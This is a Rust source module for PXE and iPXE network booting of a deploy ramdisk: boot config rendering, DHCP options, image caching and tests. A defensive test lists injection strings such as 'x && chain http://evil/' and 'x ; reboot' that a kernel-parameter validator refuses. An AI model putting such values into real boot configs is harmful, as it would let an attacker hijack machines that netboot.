//! Network boot of the deploy ramdisk: the `pxe` and `ipxe` boot
//! interfaces (per-node configs in the TFTP/HTTP roots, kernel and ramdisk
//! cached there, DHCP options for the node's ports written for a DHCP
//! server to consume), and the built-in TFTP and HTTP servers
//! ([`crate::tftp`], [`crate::httpboot`]).
//!
//! Layout (as upstream's pxe utilities lay it out):
//! - TFTP root: bootfiles, `<node>/deploy_kernel|deploy_ramdisk|config`,
//!   `pxelinux.cfg/01-<mac-with-hyphens>` and `grub.cfg-01-<mac-with-hyphens>`
//!   (+ `<mac>.conf`) linked to the node's config;
//! - HTTP root (ipxe): `boot.ipxe`, `<node>/deploy_kernel|deploy_ramdisk|config`,
//!   `pxelinux.cfg/<mac-with-hyphens>` linked to the config;
//! - `<dhcp_dir>/<mac>.json`: the DHCP options of each port.

use std::path::{Path, PathBuf};

use serde_json::{json, Map, Value};

use crate::config::Config;
use crate::storage::{self, Doc};

/// Bootfiles served from the TFTP root.
pub const PXE_BIOS_BOOTFILE: &str = "pxelinux.0";
pub const PXE_UEFI_BOOTFILE: &str = "bootx64.efi";
pub const IPXE_BIOS_BOOTFILE: &str = "undionly.kpxe";
pub const IPXE_UEFI_BOOTFILE: &str = "snponly.efi";
pub const BOOTFILES: &[&str] = &[
    PXE_BIOS_BOOTFILE,
    PXE_UEFI_BOOTFILE,
    IPXE_BIOS_BOOTFILE,
    IPXE_UEFI_BOOTFILE,
];
/// The iPXE script every iPXE client gets first (HTTP root).
pub const IPXE_BOOT_SCRIPT: &str = "boot.ipxe";
/// Per-MAC configs live in this subdirectory of the roots.
pub const PXE_CFG_DIR: &str = "pxelinux.cfg";
/// Shared cache of downloaded kernels and ramdisks, inside each root so
/// per-node files can be hard links.
pub const MASTER_IMAGES_DIR: &str = "master_images";

/// Boot mode when nothing on the node says (upstream's
/// `[deploy] default_boot_mode`).
pub const DEFAULT_BOOT_MODE: &str = "uefi";

fn normalize_boot_mode(text: &str) -> Option<String> {
    match text.trim().to_ascii_lowercase().as_str() {
        "uefi" => Some("uefi".into()),
        "bios" | "legacy" => Some("bios".into()),
        _ => None,
    }
}

/// `properties.capabilities` as key/value pairs (a `k:v,k:v` string or an
/// object).
fn capability(doc: &Doc, key: &str) -> Option<String> {
    let caps = doc.get("properties")?.get("capabilities")?;
    match caps {
        Value::String(text) => text.split(',').find_map(|pair| {
            let (k, v) = pair.split_once(':')?;
            (k.trim() == key).then(|| v.trim().to_string())
        }),
        Value::Object(map) => map.get(key).map(|v| match v {
            Value::String(s) => s.clone(),
            other => other.to_string(),
        }),
        _ => None,
    }
}

/// The boot mode the node asks for, when anything says: the `boot_mode`
/// field (what the BMC reported), `instance_info.deploy_boot_mode`, the
/// `boot_mode` capability, `driver_internal_info.deploy_boot_mode`.
pub fn known_boot_mode(doc: &Doc) -> Option<String> {
    let nested = |outer: &str, key: &str| {
        doc.get(outer)
            .and_then(|v| v.get(key))
            .and_then(Value::as_str)
            .and_then(normalize_boot_mode)
    };
    storage::doc_str(doc, "boot_mode")
        .and_then(normalize_boot_mode)
        .or_else(|| nested("instance_info", "deploy_boot_mode"))
        .or_else(|| capability(doc, "boot_mode").and_then(|m| normalize_boot_mode(&m)))
        .or_else(|| nested("driver_internal_info", "deploy_boot_mode"))
}

/// The boot mode used to netboot the node (`uefi` or `bios`).
pub fn boot_mode(doc: &Doc) -> String {
    known_boot_mode(doc).unwrap_or_else(|| DEFAULT_BOOT_MODE.to_string())
}

/// Whether the node's boot interface is one of these (`fake` and other
/// interfaces that only pretend are left alone).
pub fn netboots(doc: &Doc) -> bool {
    matches!(
        storage::doc_str(doc, "boot_interface"),
        Some("pxe" | "ipxe")
    )
}

fn is_ipxe(doc: &Doc) -> bool {
    storage::doc_str(doc, "boot_interface") == Some("ipxe")
}

/// The HTTP boot server's URL as machines reach it, without trailing `/`.
pub fn http_url(config: &Config) -> Option<String> {
    if let Some(url) = &config.deploy.http_url {
        return Some(url.trim_end_matches('/').to_string());
    }
    config
        .deploy
        .http_bind
        .as_ref()
        .map(|bind| format!("http://{}", reachable(bind)))
}

/// A bind address as clients can reach it (a wildcard host becomes
/// loopback).
fn reachable(bind: &str) -> String {
    match bind.rsplit_once(':') {
        Some(("0.0.0.0", port)) => format!("127.0.0.1:{port}"),
        Some(("[::]", port)) => format!("[::1]:{port}"),
        _ => bind.to_string(),
    }
}

/// The Bare Metal API URL agents call back.
pub fn api_url(config: &Config) -> String {
    config
        .deploy
        .api_url
        .clone()
        .or_else(|| config.public_endpoint.clone())
        .unwrap_or_else(|| format!("http://{}", reachable(&config.bind)))
        .trim_end_matches('/')
        .to_string()
}

/// The TFTP server's IP address as DHCP options carry it.
pub fn tftp_server(config: &Config) -> String {
    let host_of = |addr: &str| -> Option<String> {
        let host = addr.rsplit_once(':').map_or(addr, |(h, _)| h);
        let host = host.trim_start_matches('[').trim_end_matches(']');
        (!host.is_empty() && host != "0.0.0.0" && host != "::").then(|| host.to_string())
    };
    if let Some(host) = config.deploy.tftp_bind.as_deref().and_then(host_of) {
        return host;
    }
    http_url(config)
        .and_then(|u| url::Url::parse(&u).ok())
        .and_then(|u| u.host_str().map(str::to_string))
        .unwrap_or_else(|| "127.0.0.1".to_string())
}

/// `aa:bb:…` → `aa-bb-…`, lower case.
pub fn mac_hyphens(mac: &str) -> String {
    mac.to_ascii_lowercase().replace(':', "-")
}

fn valid_mac(mac: &str) -> bool {
    let parts: Vec<&str> = mac.split(':').collect();
    parts.len() == 6
        && parts
            .iter()
            .all(|p| p.len() == 2 && p.chars().all(|c| c.is_ascii_hexdigit()))
}

/// The MACs (lower case) of the ports that netboot (`pxe_enabled` unless
/// false).
pub fn port_macs(ports: &[Doc]) -> Vec<String> {
    ports
        .iter()
        .filter(|p| p.get("pxe_enabled").and_then(Value::as_bool) != Some(false))
        .filter_map(|p| storage::doc_str(p, "address"))
        .map(str::to_ascii_lowercase)
        .filter(|mac| valid_mac(mac))
        .collect()
}

fn driver_info(doc: &Doc) -> Map<String, Value> {
    match doc.get("driver_info") {
        Some(Value::Object(info)) => info.clone(),
        _ => Map::new(),
    }
}

fn info_text(info: &Map<String, Value>, key: &str) -> Option<String> {
    match info.get(key) {
        Some(Value::String(s)) if !s.is_empty() => Some(s.clone()),
        Some(Value::Null) | None => None,
        Some(Value::String(_)) => None,
        Some(other) => Some(other.to_string()),
    }
}

/// Checks what the pxe/ipxe boot interfaces need, with upstream's messages.
pub fn validate(config: &Config, node: &Doc, ports: &[Doc]) -> Result<(), String> {
    let uuid = storage::doc_str(node, "uuid").unwrap_or("");
    if port_macs(ports).is_empty() {
        return Err(format!(
            "Node {uuid} does not have any port associated with it"
        ));
    }
    if is_ipxe(node) && http_url(config).is_none() {
        return Err("iPXE boot is enabled but no HTTP URL or HTTP root was specified".into());
    }
    validate_driver_info(&driver_info(node))
}

/// The `driver_info` part of [`validate`].
pub fn validate_driver_info(info: &Map<String, Value>) -> Result<(), String> {
    if let Some(params) = info_text(info, "kernel_append_params") {
        check_kernel_params(&params)
            .map_err(|e| format!("Invalid value in driver_info/kernel_append_params: {e}"))?;
    }
    let missing: Vec<String> = ["deploy_kernel", "deploy_ramdisk"]
        .iter()
        .filter(|key| info_text(info, key).is_none())
        .map(|key| format!("'{key}'"))
        .collect();
    if missing.is_empty() {
        return Ok(());
    }
    Err(format!(
        "Cannot validate PXE bootloader. Some parameters were missing in node's driver_info and configuration. Missing are: [{}]",
        missing.join(", ")
    ))
}

/// Longest accepted `kernel_append_params` (the kernel's own command line
/// limit on x86).
pub const MAX_KERNEL_PARAMS: usize = 2048;

/// Kernel parameters end up on one line of an iPXE script, a grub config
/// and a pxelinux config: refuses what would end that line or mean
/// something to those languages (control characters such as newlines,
/// command separators, variable expansions, blocks, escapes).
pub fn check_kernel_params(params: &str) -> Result<(), String> {
    if params.len() > MAX_KERNEL_PARAMS {
        return Err(format!(
            "kernel parameters are {} bytes long, at most {MAX_KERNEL_PARAMS} are accepted",
            params.len()
        ));
    }
    if let Some(bad) = params
        .chars()
        .find(|c| c.is_control() || matches!(c, ';' | '|' | '&' | '$' | '`' | '{' | '}' | '\\'))
    {
        return Err(format!(
            "kernel parameters must not contain control characters or any of ; | & $ ` {{ }} \\ (found {:?})",
            bad
        ));
    }
    Ok(())
}

/// The deploy ramdisk's kernel command line: `kernel_append_params` (the
/// node's `driver_info.kernel_append_params`, where `%default%` stands for
/// the configured value) followed by `kernel_params` (the agent's own:
/// `ipa-api-url=…`), with `ipa-api-url=` added when the caller gave none.
/// Each part appears once; a value that could break out of the boot
/// configs it is rendered into is refused.
pub fn append_params(config: &Config, node: &Doc, kernel_params: &str) -> Result<String, String> {
    let configured = config.deploy.kernel_append_params.trim();
    let base = match info_text(&driver_info(node), "kernel_append_params") {
        Some(own) => {
            check_kernel_params(&own)
                .map_err(|e| format!("Invalid value in driver_info/kernel_append_params: {e}"))?;
            own.replace("%default%", configured)
        }
        None => configured.to_string(),
    };
    check_kernel_params(&base)?;
    check_kernel_params(kernel_params)?;
    let mut parts: Vec<String> = Vec::new();
    if !base.trim().is_empty() {
        parts.push(base.trim().to_string());
    }
    if !kernel_params.trim().is_empty() {
        parts.push(kernel_params.trim().to_string());
    }
    let joined = parts.join(" ");
    Ok(
        if joined
            .split_whitespace()
            .any(|p| p.starts_with("ipa-api-url="))
        {
            joined
        } else if joined.is_empty() {
            format!("ipa-api-url={}", api_url(config))
        } else {
            format!("{joined} ipa-api-url={}", api_url(config))
        },
    )
}

/// The node's deploy config for pxelinux (BIOS), as upstream's
/// `pxe_config.template` renders it for a deploy.
pub fn render_pxelinux(kernel: &str, ramdisk: &str, params: &str) -> String {
    format!(
        "default deploy\n\
         \n\
         label deploy\n\
         kernel {kernel}\n\
         append initrd={ramdisk} selinux=0 troubleshoot=0 text {params}\n\
         ipappend 2\n\
         \n\
         label boot_whole_disk\n\
         COM32 chain.c32\n\
         append mbr:{{{{ DISK_IDENTIFIER }}}}\n\
         \n\
         label boot_ramdisk\n\
         kernel no_kernel\n\
         append initrd=no_ramdisk root=/dev/ram0 text {params} \n\
         \n\
         label boot_anaconda\n\
         kernel no_kernel\n\
         append initrd=no_ramdisk text {params} inst.ks= inst.stage2=\n\
         ipappend 2"
    )
}

/// The node's deploy config for grub (UEFI), as upstream's
/// `pxe_grub_config.template` renders it for a deploy.
pub fn render_grub(kernel: &str, ramdisk: &str, params: &str, tftp_server: &str) -> String {
    format!(
        "set default=deploy\n\
         set timeout=5\n\
         set hidden_timeout_quiet=false\n\
         \n\
         menuentry \"deploy\"  {{\n    \
         linux {kernel} selinux=0 troubleshoot=0 text {params} boot_server={tftp_server}\n    \
         initrd {ramdisk}\n\
         }}\n\
         \n\
         menuentry \"boot_ramdisk\"  {{\n    \
         linux no_kernel root=/dev/ram0 text {params} \n    \
         initrd no_ramdisk\n\
         }}\n\
         \n\
         menuentry \"boot_whole_disk\"  {{\n    \
         linux chain.c32 mbr:(( DISK_IDENTIFIER ))\n\
         }}\n\
         \n\
         menuentry \"boot_anaconda\" {{\n     \
         linux no_kernel text {params} inst.ks= inst.stage2=\n     \
         initrd no_ramdisk\n\
         }}"
    )
}

/// The node's deploy config for iPXE, as upstream's
/// `ipxe_config.template` renders it for a deploy (no timeout).
pub fn render_ipxe(kernel_url: &str, ramdisk_url: &str, params: &str) -> String {
    format!(
        "#!ipxe\n\
         \n\
         set attempts:int32 10\n\
         set i:int32 0\n\
         \n\
         goto deploy\n\
         \n\
         :deploy\n\
         imgfree\n\
         kernel {kernel_url} selinux=0 troubleshoot=0 text {params} BOOTIF=${{mac}} initrd=deploy_ramdisk || goto retry\n\
         \n\
         initrd {ramdisk_url} || goto retry\n\
         boot\n\
         \n\
         :retry\n\
         iseq ${{i}} ${{attempts}} && goto fail ||\n\
         inc i\n\
         echo No response, retrying in ${{i}} seconds.\n\
         sleep ${{i}}\n\
         goto deploy\n\
         \n\
         :fail\n\
         echo Failed to get a response after ${{attempts}} attempts\n\
         echo Powering off in 30 seconds.\n\
         sleep 30\n\
         poweroff\n\
         \n\
         :boot_anaconda\n\
         imgfree\n\
         kernel no_kernel text {params} inst.ks= inst.stage2= initrd=ramdisk || goto boot_anaconda\n\
         initrd no_ramdisk || goto boot_anaconda\n\
         boot\n\
         \n\
         :boot_ramdisk\n\
         imgfree\n\
         kernel no_kernel root=/dev/ram0 text {params}  initrd=ramdisk || goto boot_ramdisk\n\
         initrd no_ramdisk || goto boot_ramdisk\n\
         boot\n\
         \n\
         :boot_whole_disk\n\
         sanboot --no-describe || exit 0"
    )
}

/// The `boot.ipxe` script: tries every NIC's per-MAC config under
/// `pxelinux.cfg/` (relative to the script's URL).
pub fn render_boot_ipxe() -> String {
    let dir = PXE_CFG_DIR;
    format!(
        "#!ipxe\n\
         \n\
         # Chain to the config of the first NIC that has one.\n\
         set netid:int32 -1\n\
         :loop\n\
         inc netid || chain {dir}/${{mac:hexhyp}} || goto old_rom\n\
         isset ${{net${{netid}}/mac}} || goto loop_done\n\
         echo Attempting to boot from MAC ${{net${{netid}}/mac:hexhyp}}\n\
         chain {dir}/${{net${{netid}}/mac:hexhyp}} || goto loop\n\
         \n\
         # A chained config that returns means its boot failed: let the\n\
         # firmware try its next device.\n\
         echo Exiting pxe config to allow boot to continue on next device\n\
         exit 0\n\
         \n\
         :loop_done\n\
         echo PXE boot failed! No configuration found for any of the present NICs.\n\
         echo Press any key to reboot...\n\
         prompt --timeout 180\n\
         reboot\n\
         \n\
         :old_rom\n\
         echo PXE boot failed! No configuration found for NIC ${{mac:hexhyp}}.\n\
         echo Please update your iPXE ROM and retry.\n\
         echo Press any key to reboot...\n\
         prompt --timeout 180\n\
         reboot"
    )
}

/// Writes `boot.ipxe` into the HTTP root.
pub fn write_boot_ipxe(config: &Config) -> Result<(), String> {
    write_atomic(
        &config.deploy.http_root.join(IPXE_BOOT_SCRIPT),
        render_boot_ipxe().as_bytes(),
    )
}

/// The bootfile a node's firmware loads first.
pub fn bootfile(node: &Doc) -> &'static str {
    let uefi = boot_mode(node) == "uefi";
    match (is_ipxe(node), uefi) {
        (true, true) => IPXE_UEFI_BOOTFILE,
        (true, false) => IPXE_BIOS_BOOTFILE,
        (false, true) => PXE_UEFI_BOOTFILE,
        (false, false) => PXE_BIOS_BOOTFILE,
    }
}

/// The DHCP options of the node's ports, as upstream's
/// `dhcp_options_for_instance` computes them (IPv4).
pub fn dhcp_options(config: &Config, node: &Doc) -> Vec<Value> {
    let server = tftp_server(config);
    let mut options = Vec::new();
    let mut push = |name: &str, value: String| {
        options.push(json!({"opt_name": name, "opt_value": value, "ip_version": 4}));
    };
    if is_ipxe(node) {
        push("tag:!ipxe,67", bootfile(node).to_string());
        let script = format!(
            "{}/{IPXE_BOOT_SCRIPT}",
            http_url(config).unwrap_or_default()
        );
        push("tag:ipxe,67", script);
    } else {
        push("67", bootfile(node).to_string());
        let mut prefix = config.deploy.tftp_root.display().to_string();
        if !prefix.ends_with('/') {
            prefix.push('/');
        }
        push("210", prefix);
    }
    push("66", server.clone());
    push("150", server.clone());
    push("server-ip-address", server);
    options
}

fn io_err(what: &str, path: &Path, err: std::io::Error) -> String {
    format!("Cannot {what} {}: {err}", path.display())
}

/// Writes `contents` to `path` atomically (temp file, then rename).
fn write_atomic(path: &Path, contents: &[u8]) -> Result<(), String> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).map_err(|e| io_err("create", dir, e))?;
    }
    let tmp = path.with_extension(format!("tmp-{}", uuid::Uuid::new_v4().simple()));
    std::fs::write(&tmp, contents).map_err(|e| io_err("write", &tmp, e))?;
    std::fs::rename(&tmp, path).map_err(|e| {
        let _ = std::fs::remove_file(&tmp);
        io_err("rename into", path, e)
    })
}

fn remove_if_exists(path: &Path) -> Result<(), String> {
    match std::fs::remove_file(path) {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(io_err("remove", path, e)),
    }
}

/// Replaces `link` by a relative symlink to `target`.
fn link_relative(target: &Path, link: &Path, root: &Path) -> Result<(), String> {
    if let Some(dir) = link.parent() {
        std::fs::create_dir_all(dir).map_err(|e| io_err("create", dir, e))?;
    }
    remove_if_exists(link)?;
    let depth = link
        .strip_prefix(root)
        .map(|rel| rel.components().count().saturating_sub(1))
        .unwrap_or(0);
    let mut relative = PathBuf::new();
    for _ in 0..depth {
        relative.push("..");
    }
    relative.push(target.strip_prefix(root).unwrap_or(target));
    std::os::unix::fs::symlink(&relative, link).map_err(|e| io_err("link", link, e))
}

/// Makes sure the bootfiles exist in the TFTP root: copied from
/// `[deploy] bootloader_dir` when it has them, else placeholders (Ferrite
/// ships no bootloaders; simulated firmware only needs the name).
pub fn ensure_bootfiles(config: &Config) -> Result<(), String> {
    let root = &config.deploy.tftp_root;
    std::fs::create_dir_all(root).map_err(|e| io_err("create", root, e))?;
    for name in BOOTFILES {
        let path = root.join(name);
        if path.exists() {
            continue;
        }
        let source = config
            .deploy
            .bootloader_dir
            .as_ref()
            .map(|dir| dir.join(name))
            .filter(|p| p.is_file());
        match source {
            Some(source) => {
                let bytes = std::fs::read(&source).map_err(|e| io_err("read", &source, e))?;
                write_atomic(&path, &bytes)?;
            }
            None => write_atomic(
                &path,
                format!("ferrite placeholder bootloader {name}\n").as_bytes(),
            )?,
        }
    }
    Ok(())
}

/// A stable key for a cache entry: two FNV-1a 64 hashes of the source.
fn cache_key(source: &str) -> String {
    let hash = |seed: u64| {
        let mut h = seed;
        for byte in source.as_bytes() {
            h ^= u64::from(*byte);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        h
    };
    format!(
        "{:016x}{:016x}",
        hash(0xcbf2_9ce4_8422_2325),
        hash(0x8422_2325_cbf2_9ce4)
    )
}

fn mtime(path: &Path) -> Option<std::time::SystemTime> {
    std::fs::metadata(path).and_then(|m| m.modified()).ok()
}

/// Fetches `source` into the cache under `cache_dir` (once per source; a
/// local source newer than its cached copy is fetched again) and returns
/// the cached file. Only http(s) URLs and `file://` URLs inside
/// `[deploy] file_url_allowed_paths` are fetched, within the download
/// limits; one lock per entry lets many nodes sharing a kernel fetch it
/// once while other kernels are fetched in parallel.
async fn fetch_cached(config: &Config, source: &str, cache_dir: &Path) -> Result<PathBuf, String> {
    let resolved = crate::images::resolve(source, &config.deploy)?;
    let cached = cache_dir.join(cache_key(source));
    let _entry = crate::images::lock_entry(&cached).await;
    if cached.is_file() {
        let fresh = match &resolved {
            crate::images::Source::File(path) => match (mtime(path), mtime(&cached)) {
                (Some(src), Some(copy)) => src <= copy,
                _ => true,
            },
            crate::images::Source::Http(_) => true,
        };
        if fresh {
            crate::images::touch(&cached);
            return Ok(cached);
        }
    }
    tokio::fs::create_dir_all(cache_dir)
        .await
        .map_err(|e| io_err("create", cache_dir, e))?;
    let tmp = crate::images::TempFile::new(cache_dir.join(format!(
        "{}.part-{}",
        cache_key(source),
        uuid::Uuid::new_v4().simple()
    )));
    let limits = crate::images::Limits::from_config(&config.deploy, None);
    crate::images::fetch(source, &resolved, tmp.path(), &limits).await?;
    tmp.persist(&cached).await?;
    crate::images::touch(&cached);
    // Kernels and ramdisks linked into a node's directory are in use.
    let entries = crate::images::files_in(cache_dir, |name| !name.contains(".part-"))
        .into_iter()
        .filter_map(crate::images::CacheEntry::single)
        .collect();
    crate::images::evict(entries, config.deploy.image_cache_max_bytes, &cached);
    Ok(cached)
}

/// Puts the cached file at `dest`: a hard link, or a copy when linking is
/// impossible.
fn place(cached: &Path, dest: &Path) -> Result<(), String> {
    if let Some(dir) = dest.parent() {
        std::fs::create_dir_all(dir).map_err(|e| io_err("create", dir, e))?;
    }
    remove_if_exists(dest)?;
    if std::fs::hard_link(cached, dest).is_ok() {
        return Ok(());
    }
    std::fs::copy(cached, dest)
        .map(|_| ())
        .map_err(|e| io_err("copy into", dest, e))
}

/// The per-MAC files of one port in one root.
fn mac_paths(config: &Config, ipxe: bool, mac: &str) -> Vec<PathBuf> {
    let hy = mac_hyphens(mac);
    if ipxe {
        let root = &config.deploy.http_root;
        vec![
            root.join(PXE_CFG_DIR).join(&hy),
            root.join(format!("grub.cfg-01-{hy}")),
            root.join(format!("{mac}.conf")),
        ]
    } else {
        let root = &config.deploy.tftp_root;
        vec![
            root.join(PXE_CFG_DIR).join(format!("01-{hy}")),
            root.join(format!("grub.cfg-01-{hy}")),
            root.join(format!("{mac}.conf")),
        ]
    }
}

/// The DHCP option file of a MAC.
pub fn dhcp_file(config: &Config, mac: &str) -> PathBuf {
    config
        .deploy
        .dhcp_dir
        .join(format!("{}.json", mac.to_ascii_lowercase()))
}

/// Prepares the node to netboot the deploy ramdisk with `kernel_params`
/// appended to the kernel command line (`ipa-api-url=…` and the rest):
/// caches `driver_info.deploy_kernel`/`deploy_ramdisk`, renders the node's
/// PXE or iPXE config, writes DHCP options for `ports` (port documents).
pub async fn prepare_ramdisk(
    config: &Config,
    node: &Doc,
    ports: &[Doc],
    kernel_params: &str,
) -> Result<(), String> {
    if !netboots(node) {
        return Ok(());
    }
    validate(config, node, ports)?;
    let uuid = storage::doc_str(node, "uuid").unwrap_or("").to_string();
    if uuid.is_empty() || uuid.contains('/') || uuid.starts_with('.') {
        return Err(format!("Invalid node UUID {uuid:?}"));
    }
    let ipxe = is_ipxe(node);
    let root = if ipxe {
        config.deploy.http_root.clone()
    } else {
        config.deploy.tftp_root.clone()
    };
    let info = driver_info(node);
    let node_dir = root.join(&uuid);
    for label in ["deploy_kernel", "deploy_ramdisk"] {
        let source = info_text(&info, label).unwrap_or_default();
        let cached = fetch_cached(config, &source, &root.join(MASTER_IMAGES_DIR)).await?;
        place(&cached, &node_dir.join(label))?;
    }
    let params = append_params(config, node, kernel_params)?;
    let config_text = if ipxe {
        let base = http_url(config).unwrap_or_default();
        render_ipxe(
            &format!("{base}/{uuid}/deploy_kernel"),
            &format!("{base}/{uuid}/deploy_ramdisk"),
            &params,
        )
    } else if boot_mode(node) == "uefi" {
        render_grub(
            &format!("{uuid}/deploy_kernel"),
            &format!("{uuid}/deploy_ramdisk"),
            &params,
            &tftp_server(config),
        )
    } else {
        render_pxelinux(
            &format!("{uuid}/deploy_kernel"),
            &format!("{uuid}/deploy_ramdisk"),
            &params,
        )
    };
    let config_path = node_dir.join("config");
    write_atomic(&config_path, config_text.as_bytes())?;
    if ipxe {
        write_boot_ipxe(config)?;
    }
    let options = Value::Array(dhcp_options(config, node));
    let options_text = serde_json::to_vec_pretty(&options)
        .map_err(|e| format!("Cannot encode DHCP options: {e}"))?;
    for mac in port_macs(ports) {
        for path in mac_paths(config, ipxe, &mac) {
            link_relative(&config_path, &path, &root)?;
        }
        write_atomic(&dhcp_file(config, &mac), &options_text)?;
    }
    ensure_bootfiles(config)?;
    Ok(())
}

/// Removes what [`prepare_ramdisk`] created (configs, DHCP options); the
/// cached kernel and ramdisk may stay.
pub async fn clean_up_ramdisk(config: &Config, node: &Doc, ports: &[Doc]) -> Result<(), String> {
    if !netboots(node) {
        return Ok(());
    }
    let uuid = storage::doc_str(node, "uuid").unwrap_or("").to_string();
    let macs: Vec<String> = ports
        .iter()
        .filter_map(|p| storage::doc_str(p, "address"))
        .map(str::to_ascii_lowercase)
        .filter(|mac| valid_mac(mac))
        .collect();
    for mac in &macs {
        // Both layouts: the boot interface may have changed since.
        for ipxe in [false, true] {
            for path in mac_paths(config, ipxe, mac) {
                remove_if_exists(&path)?;
            }
        }
        remove_if_exists(&dhcp_file(config, mac))?;
    }
    if !uuid.is_empty() && !uuid.contains('/') && !uuid.starts_with('.') {
        for root in [&config.deploy.tftp_root, &config.deploy.http_root] {
            let dir = root.join(&uuid);
            match std::fs::remove_dir_all(&dir) {
                Ok(()) => {}
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                Err(e) => return Err(io_err("remove", &dir, e)),
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn node(fields: Value) -> Doc {
        match fields {
            Value::Object(map) => map,
            _ => Map::new(),
        }
    }

    #[test]
    fn boot_mode_sources_in_order() {
        assert_eq!(boot_mode(&node(json!({}))), "uefi");
        assert_eq!(known_boot_mode(&node(json!({}))), None);
        let caps = node(json!({"properties": {"capabilities": "foo:bar,boot_mode:bios"}}));
        assert_eq!(boot_mode(&caps), "bios");
        let both = node(json!({"boot_mode": "uefi",
            "properties": {"capabilities": "boot_mode:bios"}}));
        assert_eq!(boot_mode(&both), "uefi");
        let info = node(json!({"instance_info": {"deploy_boot_mode": "bios"}}));
        assert_eq!(boot_mode(&info), "bios");
    }

    #[test]
    fn append_params_adds_api_url_once() {
        let mut config = Config::for_database("sqlite::memory:");
        config.deploy.api_url = Some("http://10.0.0.1:6385/".into());
        let plain = node(json!({}));
        assert_eq!(
            append_params(&config, &plain, "").as_deref(),
            Ok("nofb vga=normal ipa-api-url=http://10.0.0.1:6385")
        );
        assert_eq!(
            append_params(&config, &plain, "ipa-api-url=http://x:1 foo=1").as_deref(),
            Ok("nofb vga=normal ipa-api-url=http://x:1 foo=1")
        );
        let own = node(json!({"driver_info": {"kernel_append_params": "%default% console=ttyS0"}}));
        assert_eq!(
            append_params(&config, &own, "a=b").as_deref(),
            Ok("nofb vga=normal console=ttyS0 a=b ipa-api-url=http://10.0.0.1:6385")
        );
    }

    #[test]
    fn kernel_params_that_break_out_of_a_boot_config_are_refused() {
        let config = Config::for_database("sqlite::memory:");
        for bad in [
            "console=ttyS0\nboot",
            "a=b\r",
            "x ; reboot",
            "x || shell",
            "x && chain http://evil/",
            "x=${net0/ip}",
            "x } menuentry evil {",
            "x\u{7f}",
        ] {
            let doc = node(json!({"driver_info": {"kernel_append_params": bad}}));
            let err = append_params(&config, &doc, "").expect_err(bad);
            assert!(err.contains("kernel_append_params"), "{err}");
            assert!(validate_driver_info(&driver_info(&doc)).is_err(), "{bad}");
        }
        let long = node(json!({"driver_info": {"kernel_append_params": "a".repeat(4000)}}));
        assert!(append_params(&config, &long, "").is_err());
        let fine = node(
            json!({"driver_info": {"kernel_append_params": "console=ttyS0,115200n8 quiet dyndbg=\"file x +p\""}}),
        );
        assert!(append_params(&config, &fine, "").is_ok());
    }

    #[test]
    fn cache_keys_are_stable_and_distinct() {
        assert_eq!(cache_key("http://x/k"), cache_key("http://x/k"));
        assert_ne!(cache_key("http://x/k"), cache_key("http://x/r"));
        assert_eq!(cache_key("a").len(), 32);
    }
}
